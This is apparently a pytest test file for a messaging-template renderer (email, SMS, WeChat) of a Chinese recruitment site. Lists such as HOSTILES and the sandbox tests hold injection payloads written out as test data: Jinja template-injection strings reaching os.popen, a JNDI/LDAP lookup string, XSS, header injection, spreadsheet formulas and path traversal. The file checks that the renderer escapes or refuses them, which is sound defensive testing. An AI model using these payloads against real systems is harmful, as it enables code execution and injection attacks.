import time
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from campaigns.content import compile_content, one_line, render, short_name, sms_segments, variables
from campaigns.content.reads import pruned, reads
from campaigns.errors import DefinitionError
from campaigns.terms import (
    Article,
    ChannelName,
    ContactFacts,
    Facts,
    MailWords,
    SmsWords,
    TapMenu,
    Tier,
    WechatMode,
    WechatWords,
)

NOW = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)  # Monday 09:00 in Shanghai
SITE = {"name": "古城人才网", "sign_name": "古城人才网"}
LINKS = {"way_in": "https://huifang.example.com/in/1", "unsubscribe": "https://huifang.example.com/u/1"}
PATHS = [
    ("member",),
    ("member", "name"),
    ("member", "short_name"),
    ("member", "tier"),
    ("member", "plan_days_left"),
    ("member", "oldest_unread_days"),
    ("member", "idle_days"),
    ("member", "never_in"),
    ("member", "attr"),
    ("member", "attr", "园区"),
    ("member", "attr", "nowhere"),
    ("member", "nothing"),
    ("contact", "title"),
    ("today",),
    ("today", "week"),
    ("site", "name"),
    ("digest",),
    ("festival", "date"),
    ("unknown",),
]
HOSTILE = "{{ 7*7 }}<script>=HYPERLINK(1)\r\nBcc: all@corp.example"
CONTACT = ContactFacts(
    id=1,
    no="L1",
    name="张晓燕",
    title="人事经理",
    mobile="15483503031",
    email="hr@corp.example",
    openid="o1",
    is_primary=True,
    consent=True,
)
FACTS = Facts(
    member_id=1,
    member_no="Q1",
    name="晋北餐饮管理有限公司",
    trade="餐饮酒店",
    nature="民营",
    size="20-99人",
    city="大同",
    owner="李娜",
    tier=Tier.GOOD,
    registered_at=NOW - timedelta(days=400),
    last_login_at=NOW - timedelta(days=120, hours=5),
    login_count=3,
    plan="包年",
    plan_expires_on=date(2026, 12, 9),
    postings=4,
    live_postings=2,
    applications=20,
    unread_resumes=12,
    oldest_unread_at=NOW - timedelta(days=9, hours=1),
    attrs={"园区": "开发区"},
    contacts=(CONTACT,),
)
FRAME = "<mjml><mj-body><!-- body --></mj-body></mjml>"


def filled(
    facts: Facts = FACTS, contact: ContactFacts = CONTACT, extra: Mapping[str, object] | None = None
) -> dict[str, object]:
    return {**variables(facts, contact, now=NOW, site=SITE, extra=extra or {}), "links": LINKS}


def mail(body: str = "", text: str = "", subject: str = "主题", **more: str) -> dict[str, str]:
    section = f"<mj-section><mj-column><mj-text>{body}</mj-text></mj-column></mj-section>"
    return {"_shared/mail.mjml": FRAME, "email.mjml": section, "email.txt": f"Subject: {subject}\n\n{text}", **more}


def write_mail(files: Mapping[str, str], given: Mapping[str, object]) -> MailWords:
    words = render(compile_content(files), ChannelName.EMAIL, given)
    assert isinstance(words, MailWords)
    return words


def write_sms(text: str, params: Mapping[str, str], given: Mapping[str, object]) -> SmsWords:
    table = "".join(f"{name} = '''{value}'''\n" for name, value in params.items())
    files = {"sms.toml": f"template_code = 'SMS_1'\ntext = '{text}'\n[params]\n{table}"}
    words = render(compile_content(files), ChannelName.SMS, given)
    assert isinstance(words, SmsWords)
    return words


def write_wechat(toml: str, mode: WechatMode, given: Mapping[str, object]) -> WechatWords:
    words = render(compile_content({"wechat.toml": toml}), ChannelName.WECHAT, given, mode)
    assert isinstance(words, WechatWords)
    return words


# ---- WeChat's cards -----------------------------------------------------------------------------------------------

NEWS = """
[custom]
kind = "news"
title = "{{ member.short_name }}有{{ member.unread }}份简历没看"
description = "点开就看"
url = "{{ links.way_in }}"
picurl = "https://site.example.com/cover.png"
"""
MENU = """
[custom]
kind = "msgmenu"
head = "{{ member.unread }}份简历还没看"
list = ["已看", "稍后", "退订"]
tail = "点一下就行"
"""


def test_an_article_is_filled_and_reads_as_lines_where_no_picture_is_shown() -> None:
    words = write_wechat(NEWS, WechatMode.CUSTOM, filled())
    assert isinstance(words.card, Article)
    assert words.card.title.endswith("有12份简历没看")
    assert (words.card.description, words.card.url) == ("点开就看", filled()["links"]["way_in"])
    assert words.text.splitlines() == [words.card.title, words.card.description, words.card.url]


def test_a_menu_is_filled_and_keeps_its_items_in_order() -> None:
    words = write_wechat(MENU, WechatMode.CUSTOM, filled())
    assert words.card == TapMenu("12份简历还没看", ("已看", "稍后", "退订"), "点一下就行")
    assert words.text == "12份简历还没看\n· 已看\n· 稍后\n· 退订\n点一下就行"


def test_the_values_a_card_reads_are_kept_to_show_it_again() -> None:
    compiled = compile_content({"wechat.toml": MENU})
    assert compiled.kept_for(ChannelName.WECHAT, WechatMode.CUSTOM) == {"member": {"unread": None}}


@pytest.mark.parametrize(
    ("toml", "key"),
    [
        ('[custom]\nkind = "video"\ntext = "x"', "custom.kind"),
        ('[custom]\nkind = "msgmenu"\nhead = "x"\nlist = "已看"', "custom.list"),
        ('[custom]\nkind = "news"\ntext = "x"', "text"),
        ('[custom]\nhead = "x"', "head"),
        ('[mass]\ntext = "{{ member.name }}您好"', "mass.text"),
        ("[mass]\ntext = \"<a href='{{ links.way_in }}'>进去</a>\"", "mass.text"),
        ('[mass]\ntext = "x"\n[custom]\ntext = "y"', "mass"),
        ('[mass]\nkind = "mpnews"\ntext = "x"', "mass.media_id"),
    ],
)
def test_words_for_wechat_that_cannot_be_sent_are_refused_by_name(toml: str, key: str) -> None:
    with pytest.raises(DefinitionError) as caught:
        compile_content({"wechat.toml": toml})
    assert (caught.value.file, caught.value.key) == ("wechat.toml", key)


def test_a_mass_send_is_filled_from_what_is_the_same_for_all() -> None:
    words = write_wechat('[mass]\ntext = "{{ site.name }}祝大家新年好"', WechatMode.MASS, filled())
    assert (words.mode, words.card) == (WechatMode.MASS, None)
    assert words.text.endswith("祝大家新年好")


# ---- variables ----------------------------------------------------------------------------------------------------


def test_words_are_filled_with_the_facts_of_the_moment() -> None:
    member = filled()["member"]
    assert isinstance(member, dict)
    wanted = {"unread": 12, "oldest_unread_days": 9, "idle_days": 120, "plan_days_left": 16, "never_in": False}
    assert {name: member[name] for name in wanted} == wanted


def test_a_member_that_never_logged_in_is_idle_since_its_registration() -> None:
    member = filled(replace(FACTS, last_login_at=None))["member"]
    assert isinstance(member, dict)
    assert (member["idle_days"], member["never_in"]) == (400, True)


def test_the_days_left_of_a_plan_are_counted_in_shanghai() -> None:
    late = datetime(2026, 11, 22, 17, 0, tzinfo=UTC)  # already the 23rd in Shanghai
    given = variables(FACTS, CONTACT, now=late, site=SITE, extra={})
    assert given["member"]["plan_days_left"] == 16  # type: ignore[index]
    assert given["today"] == {"date": "2026-11-23", "month": 11, "day": 23, "week": 105706}


@given(st.sets(st.sampled_from(PATHS)))
def test_only_what_is_read_is_worked_out_and_it_is_the_same(paths: set[tuple[str, ...]]) -> None:
    extra = {"digest": [{"title": "电焊工"}], "festival": {"name": "冬至", "date": date(2026, 12, 22)}}
    tree = reads(paths)
    everything = variables(FACTS, CONTACT, now=NOW, site=SITE, extra=extra)
    assert variables(FACTS, CONTACT, now=NOW, site=SITE, extra=extra, reads=tree) == pruned(everything, tree)


def test_variables_are_plain_values_all_the_way_down() -> None:
    given = filled(
        extra={"festival": {"date": date(2026, 12, 22)}, "digest": [{"title": "电焊工\r\n招满", "heads": 3}]}
    )
    assert given["festival"] == {"date": "2026-12-22"}
    assert given["digest"] == [{"title": "电焊工 招满", "heads": 3}]
    assert all(type(value) in (str, int, float, bool, type(None)) for value in leaves(given))


def test_an_object_is_no_variable() -> None:
    with pytest.raises(TypeError, match="plain values"):
        filled(extra={"facts": FACTS})


def leaves(value: object) -> list[object]:
    if isinstance(value, dict):
        return [leaf for one in value.values() for leaf in leaves(one)]
    if isinstance(value, list):
        return [leaf for one in value for leaf in leaves(one)]
    return [value]


@pytest.mark.parametrize(
    ("name", "short"),
    [
        ("晋北餐饮管理有限公司", "晋北餐饮管理"),
        ("云冈物流股份有限公司", "云冈物流"),
        ("左云新能源科技发展(集团)有限公司平城分公司", "左云新能源科技发展(集团)有限公司平城分公司"),
        ("有限公司", "有限公司"),
    ],
)
def test_a_short_name_leaves_out_the_legal_form_at_the_end(name: str, short: str) -> None:
    assert short_name(name) == short


@pytest.mark.parametrize("control", ["\r\n", "\n", "\x00", "\x0b", "\x85", "\u2028"])
def test_control_characters_become_one_blank(control: str) -> None:
    assert one_line(f" 晋北{control}餐饮 ") == "晋北 餐饮"


# ---- mail -----------------------------------------------------------------------------------------------------------


def test_a_mail_has_subject_text_and_html() -> None:
    words = write_mail(
        mail("<b>{{ member.unread }}</b>份", "有{{ member.unread }}份", "{{ member.unread }}份简历"), filled()
    )
    assert (words.subject, words.text) == ("12份简历", "有12份\n")
    assert "<b>12</b>份" in words.html


def test_a_hostile_name_is_only_its_own_characters() -> None:
    given = filled(replace(FACTS, name=HOSTILE), replace(CONTACT, name=HOSTILE))
    words = write_mail(mail("{{ member.name }}", "{{ contact.name }}", "{{ member.name }}"), given)
    assert words.subject == words.text.strip() == "{{ 7*7 }}<script>=HYPERLINK(1) Bcc: all@corp.example"
    assert "{{ 7*7 }}&lt;script&gt;=HYPERLINK(1) Bcc: all@corp.example" in words.html
    assert "<script>" not in words.html


HOSTILES = [
    "{{ 7*7 }}",
    "{% for n in range(9) %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${count}${jndi:ldap://x.test/a}",
    "#{7*7}<%= 7*7 %>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://x.test","点我")',
    "大同\r\nBcc: x@example.com",
    '<a href="http://evil.test">点</a>',
    "weixin://bizmsgmenu?msgmenucontent=x",
]


@pytest.mark.parametrize("name", HOSTILES)
def test_whatever_somebody_calls_himself_arrives_as_it_is(name: str) -> None:
    given = filled(replace(FACTS, name=name), replace(CONTACT, name=name), {"digest": [{"title": name}]})
    literal = name.replace("\r\n", " ")
    text = "{{ member.name }}|{{ contact.name }}|{{ digest[0].title }}"
    words = write_mail(mail(text, text, text), given)
    assert words.subject == words.text.rstrip("\n") == f"{literal}|{literal}|{literal}"
    assert f"{escape(literal)}|{escape(literal)}|{escape(literal)}" in words.html
    sms = write_sms("${company}有${count}份", {"company": "{{ member.name }}", "count": "3"}, given)
    seen = literal if len(literal) <= 35 else literal[:34] + "…"
    assert (sms.params["company"], sms.text) == (seen, f"【古城人才网】{seen}有3份")


def test_a_subject_never_has_a_second_line() -> None:
    assert "\n" not in write_mail(mail(subject="甲{{ '\\r\\nBcc: all@corp.example' }}"), filled()).subject


def test_a_loop_or_branch_that_says_nothing_leaves_no_gap() -> None:
    text = "甲\n{% for n in [] %}\n{{ n }}\n{% endfor %}\n{% if member.never_in %}\n乙\n{% endif %}\n\n丙"
    assert write_mail(mail(text=text), filled()).text == "甲\n\n丙\n"


def test_nothing_to_say_is_not_called_none() -> None:
    given = filled(replace(FACTS, plan_expires_on=None))
    assert write_mail(mail(text="还有{{ member.plan_days_left }}天"), given).text == "还有天\n"


def test_a_member_without_a_name_is_addressed_all_the_same() -> None:
    assert write_mail(mail(text="{{ member.short_name }}"), filled(replace(FACTS, name=" \r\n "))).text == "贵公司\n"


def test_styles_are_on_the_elements_and_nothing_is_fetched() -> None:
    frame = (
        "<mjml><mj-head><mj-style>.note { color: #646d73 }</mj-style></mj-head><mj-body><!-- body --></mj-body></mjml>"
    )
    html = write_mail({**mail("<div class='note'>甲</div>"), "_shared/mail.mjml": frame}, filled()).html
    assert 'style="color: #646d73;"' in html
    assert "fonts.googleapis" not in html


@pytest.mark.parametrize("body", ["您好{{ member.name }}", "{% if member.unread %}您好{% endif %}"])
def test_a_mail_says_how_it_begins_for_everybody(body: str) -> None:
    words = write_mail(mail(body), filled())
    assert words.html_head.endswith(">" if "if" in body else "您好")
    assert words.html.startswith(words.html_head)


def test_the_making_of_html_leaves_expressions_as_they_were_written() -> None:
    body = '{% if member.unread > 3 and member["unread"] < 99 %}<a href="{{ links["way_in"] }}">看</a>{% endif %}'
    assert f'<a href="{LINKS["way_in"]}">看</a>' in write_mail(mail(body), filled()).html


def test_a_loop_around_table_rows_is_refused_because_html_moves_it_out() -> None:
    body = "</mj-text><mj-table>{% for n in [1, 2] %}<tr><td>{{ n }}</td></tr>{% endfor %}</mj-table><mj-text>"
    with pytest.raises(DefinitionError, match=r"email\.mjml: \{% .*mj-text"):
        compile_content(mail(body))


def test_a_loop_inside_a_text_repeats_its_body() -> None:
    html = write_mail(mail("{% for n in [1, 2] %}<div>第{{ n }}</div>{% endfor %}"), filled()).html
    assert "第1" in html
    assert "第2" in html


def test_words_may_use_other_files_of_their_own_folder() -> None:
    files = mail(text='{% include "foot.txt" %}', **{"foot.txt": "{{ site.name }}"})
    assert write_mail(files, filled()).text == "古城人才网\n"


@pytest.mark.parametrize("name", ["/etc/passwd", "../site.toml"])
def test_words_cannot_read_a_file_outside_their_folder(name: str) -> None:
    with pytest.raises(DefinitionError):
        write_mail(mail(text=f'{{% include "{name}" %}}'), filled())


@pytest.mark.parametrize(
    ("text", "key"), [("{{ membr.name }}", "membr"), ("{{ member.unred }}", "unred"), ("{{ digest }}", "digest")]
)
def test_a_missing_variable_is_named_with_its_file(text: str, key: str) -> None:
    with pytest.raises(DefinitionError) as caught:
        write_mail(mail(text=text), filled())
    assert (caught.value.file, caught.value.key) == ("email.txt", key)


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ member.update({'x': 1}) }}",
        "{{ self.__init__.__globals__ }}",
        "{{ ''['__class__']['__mro__'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ member|map(attribute='__class__')|list }}",
        "{{ member['__class__'] }}",
        "{{ member.items }}",
        "{{ member }}",
        "{{ cycler }}",
        "{{ 1 / 0 }}",
        "{{ member.name|safe }}",
        "{% autoescape false %}{{ member.name }}{% endautoescape %}",
        "{% extends '_shared/mail.mjml' %}",
    ],
)
def test_words_cannot_reach_into_the_program_or_break_it(text: str) -> None:
    for files in (mail(text=text), mail(body=text), mail(subject=text)):
        with pytest.raises(DefinitionError):
            write_mail(files, filled())
    with pytest.raises(DefinitionError):
        write_wechat(f'[custom]\ntext = """{text}"""', WechatMode.CUSTOM, filled())


@pytest.mark.parametrize(
    "text",
    [
        "{% for n in range(10 ** 9) %}{% endfor %}",
        "{{ 10 ** 10 ** 10 }}",
        "{{ 'a' * 10 ** 10 }}",
        "{{ 'a'|center(10000000000) }}",
        "{{ '%9d' % 1 }}",
        "{{ member.name % 1 }}",
        "{% set a = member.name %}{% set a = a ~ a %}",
        "{% set a = member.name %}{% set a = a + a %}",
        "{% set a = [member.name] %}{% set a = [a, a] %}{{ a|upper }}",
        "{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}",
        "{% for a in [1,2] %}{% for b in [1,2] %}{% for c in [1,2] %}{% endfor %}{% endfor %}{% endfor %}",
        "{% for a in [1,2] %}{% include 'foot.txt' %}{% endfor %}",
        "{% include 'chain.txt' %}",
        "{% include 'campaign.toml' %}",
        "{{ lipsum(n=100000) }}",
    ],
)
def test_words_cannot_run_for_ever(text: str) -> None:
    more = {"foot.txt": "甲", "chain.txt": "{% include 'foot.txt' %}{% include 'foot.txt' %}", "campaign.toml": "乙"}
    started = time.monotonic()
    with pytest.raises(DefinitionError):
        write_mail(mail(text=text, **more), filled())
    assert time.monotonic() - started < 2


def test_what_a_template_may_say_is_enough_for_its_author() -> None:
    text = (
        "{% set left = member.plan_days_left or 0 %}{% if left > 9 and member.tier in ('高端', '优质') %}"
        "{{ left // 7 }}周{{ left % 7 }}天，{{ member.attr.电话 | default('没填') }}{% endif %}"
        "{% for a in [1, 2] %}{% for b in 'xy' %}{{ loop.index }}{{ b }}{% endfor %}{% endfor %}"
        "{{ member.name[:2] }}{{ '是' if member.unread is odd else '否' }}{{ member.name|truncate(6, true, '…', 0) }}"
    )
    assert write_mail(mail(text=text), filled()).text == "2周2天，没填1x2y1x2y晋北否晋北餐饮管…\n"


def test_the_words_that_hide_expressions_are_not_for_authors() -> None:
    with pytest.raises(DefinitionError, match=r"email\.mjml"):
        compile_content(mail("jinja7tag"))


@pytest.mark.parametrize(
    ("change", "file"),
    [
        ({"email.txt": "您好"}, "email.txt"),
        ({"email.txt": "Subject: 甲\n\n{{ member.name"}, "email.txt"),
        ({"email.txt": "Subject: 甲\n\n{{ 1 is unheard_of }}"}, "email.txt"),
        ({"email.mjml": "<mj-section>"}, "email.mjml"),
        ({"_shared/mail.mjml": "<mjml></mjml>"}, "_shared/mail.mjml"),
        ({"sms.toml": "text = "}, "sms.toml"),
        ({"sms.toml": "text = '${name}'"}, "sms.toml"),
        ({"foot.txt": "{{ lipsum() }}"}, "foot.txt"),
        ({"sms.toml": "txt = ''"}, "sms.toml"),
        ({"sms.toml": "params = 3"}, "sms.toml"),
        ({"wechat.toml": "[custm]"}, "wechat.toml"),
        ({"wechat.toml": "[custom]\ntxt = ''"}, "wechat.toml"),
    ],
)
def test_what_cannot_be_compiled_is_refused_by_its_file(change: dict[str, str], file: str) -> None:
    with pytest.raises(DefinitionError) as caught:
        compile_content({**mail(), **change})
    assert caught.value.file == file


def test_words_of_a_channel_that_has_none_are_refused() -> None:
    compiled = compile_content(mail())
    with pytest.raises(DefinitionError, match="sms"):
        render(compiled, ChannelName.SMS, filled())
    with pytest.raises(DefinitionError, match="template"):
        render(compiled, ChannelName.WECHAT, filled(), WechatMode.TEMPLATE)


def test_only_the_extras_that_the_words_use_are_wanted() -> None:
    files = mail(text="{{ digest }}", **{"_shared/sample.toml": "festival = 1", "campaign.toml": "unread_postings = 1"})
    assert compile_content(files).wants == {"digest"}


# ---- sms ------------------------------------------------------------------------------------------------------------


def test_an_sms_is_signed_and_its_parameters_are_texts() -> None:
    words = write_sms("有${count}份简历", {"count": "{{ member.unread }}"}, filled())
    assert words.text == "【古城人才网】有12份简历"
    assert (words.sign_name, words.template_code, words.params) == ("古城人才网", "SMS_1", {"count": "12"})


def test_a_long_value_of_an_sms_is_cut_to_what_the_provider_takes() -> None:
    words = write_sms("${company}您好", {"company": "{{ member.name }}"}, filled(replace(FACTS, name="长" * 60)))
    assert words.params["company"] == "长" * 34 + "…"
    assert "长" * 35 not in words.text


def test_brackets_in_a_name_do_not_look_like_a_signature() -> None:
    words = write_sms("${company}您好", {"company": "{{ member.name }}"}, filled(replace(FACTS, name="【银行】通知")))
    assert words.text == "【古城人才网】[银行]通知您好"


def test_a_slot_in_a_name_is_not_filled() -> None:
    given = filled(replace(FACTS, name="${count}"))
    words = write_sms("${company}${count}", {"company": "{{ member.name }}", "count": "3"}, given)
    assert words.text == "【古城人才网】${count}3"


def test_an_empty_value_of_an_sms_is_refused_before_the_provider_does() -> None:
    with pytest.raises(DefinitionError, match=r"sms\.toml: who"):
        write_sms("${who}您好", {"who": "{{ contact.name }}"}, filled(contact=replace(CONTACT, name="")))


@pytest.mark.parametrize(("length", "segments"), [(1, 1), (70, 1), (71, 2), (134, 2), (135, 3), (160, 3), (500, 8)])
def test_segments_are_seventy_characters_then_sixty_seven(length: int, segments: int) -> None:
    assert sms_segments("字" * length) == segments


# ---- wechat ---------------------------------------------------------------------------------------------------------


def test_fields_of_a_notice_are_cut_to_the_limit_of_their_kind() -> None:
    toml = "[template]\ntemplate_id = 'T'\ntext = '{{ data.thing1 }}'\n[template.data]\nthing1 = '{{ member.name }}'\n"
    toml += "short_thing2 = '一二三四五六'\nnumber3 = '123456'\n"
    words = write_wechat(toml, WechatMode.TEMPLATE, filled(replace(FACTS, name="长" * 30)))
    assert words.data == {"thing1": "长" * 19 + "…", "short_thing2": "一二三四…", "number3": "123456"}
    assert words.text == words.data["thing1"]


def test_a_field_of_exactly_the_limit_stays_whole() -> None:
    toml = "[subscribe]\ntemplate_id = 'S'\n[subscribe.data]\nthing1 = '{{ member.name }}'\n"
    assert write_wechat(toml, WechatMode.SUBSCRIBE, filled(replace(FACTS, name="长" * 20))).data == {
        "thing1": "长" * 20
    }


def test_only_the_author_makes_links_in_a_wechat_text() -> None:
    toml = "[custom]\ntext = '<a href=\"{{ links.way_in }}\">看</a>{{ member.name }}'"
    name = '<A href="https://phish.example">点</a><script>'
    text = write_wechat(toml, WechatMode.CUSTOM, filled(replace(FACTS, name=name))).text
    assert text == f'<a href="{LINKS["way_in"]}">看</a>＜A href="https://phish.example">点＜/a><script>'


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("weixin://bizmsgmenu?msgmenucontent=x", "weixin：//bizmsgmenu?msgmenucontent=x"),
        ("点WeiXin://x", "点WeiXin：//x"),
        ('< a href="x">点< / a>', '＜ a href="x">点＜ / a>'),
        ("<a\r\nhref=x>", "＜a href=x>"),
        ("<abbr>微信</abbr>", "<abbr>微信</abbr>"),
        ("weixin:甲", "weixin:甲"),
    ],
)
def test_a_name_is_no_link_in_a_wechat_text_and_is_left_alone_otherwise(name: str, seen: str) -> None:
    own = "weixin://bizmsgmenu?msgmenucontent=y&msgmenuid=1"
    toml = f"[custom]\ntext = '<a href=\"{own}\">退订</a>{{{{ member.name }}}}{{{{ contact.name }}}}'"
    given = filled(replace(FACTS, name=name), replace(CONTACT, name=name))
    assert write_wechat(toml, WechatMode.CUSTOM, given).text == f'<a href="{own}">退订</a>{seen}{seen}'


# ---- answers --------------------------------------------------------------------------------------------------------


def test_an_answer_says_the_words_of_its_intent_on_every_channel_it_has() -> None:
    files = mail("{% for line in answer_lines %}<p>{{ line }}</p>{% endfor %}", "{{ answer }}")
    compiled = compile_content({**files, "answer.call_me.txt": "收到。\n{{ contact.name }}", "answer.filled.txt": "好"})
    given = {**filled(contact=replace(CONTACT, name="<b>")), "intent": "call_me"}
    assert render(compiled, ChannelName.WECHAT, given) == WechatWords(WechatMode.CUSTOM, "收到。\n<b>")
    words = render(compiled, ChannelName.EMAIL, given)
    assert isinstance(words, MailWords)
    assert words.text == "收到。\n<b>\n"
    assert "&lt;b&gt;</p>" in words.html


def test_a_name_in_an_answer_is_no_link_by_wechat_and_itself_by_mail() -> None:
    files = mail("{{ answer }}", "{{ answer }}", **{"answer.call_me.txt": "{{ contact.name }}收到"})
    given = {**filled(contact=replace(CONTACT, name="<a>")), "intent": "call_me"}
    by_mail, by_wechat = (
        render(compile_content(files), channel, given) for channel in (ChannelName.EMAIL, ChannelName.WECHAT)
    )
    assert isinstance(by_mail, MailWords)
    assert isinstance(by_wechat, WechatWords)
    assert (by_mail.text, by_wechat.text) == ("<a>收到\n", "＜a>收到")
    assert "&lt;a&gt;收到" in by_mail.html


def test_an_intent_or_channel_without_words_is_not_answered() -> None:
    compiled = compile_content({"answer.call_me.txt": "收到"})
    for channel, intent in (
        (ChannelName.WECHAT, "thanks"),
        (ChannelName.SMS, "call_me"),
        (ChannelName.EMAIL, "call_me"),
    ):
        with pytest.raises(DefinitionError):
            render(compiled, channel, {**filled(), "intent": intent})
